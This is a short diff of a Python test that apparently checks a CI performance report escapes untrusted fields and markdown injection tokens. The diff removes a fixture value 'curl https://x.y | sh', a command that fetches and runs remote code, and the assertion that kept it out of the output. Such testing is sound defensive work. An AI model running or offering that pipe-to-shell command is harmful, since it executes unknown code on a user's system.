@@ -258,7 +258,6 @@ def test_nothing_foreign_is_obeyed(night):
             subject=bad,
             author=Person(name=bad, email=bad),
             cause=LossCause(text=bad, function=bad, file=bad),
-            command="curl https://x.y | sh",
             reason=bad,
             owner=bad,
         )
@@ -266,7 +265,6 @@ def test_nothing_foreign_is_obeyed(night):
     body = night.issue.body
 
     assert body.count("<!-- ci-perf:") == 1
-    assert "curl" not in body, "a person would paste it"
     outside = "".join(text for text in _outside_code(body))
     for part in ("@all", "</details>", "#1", "![]", "# closes"):
         assert part not in outside
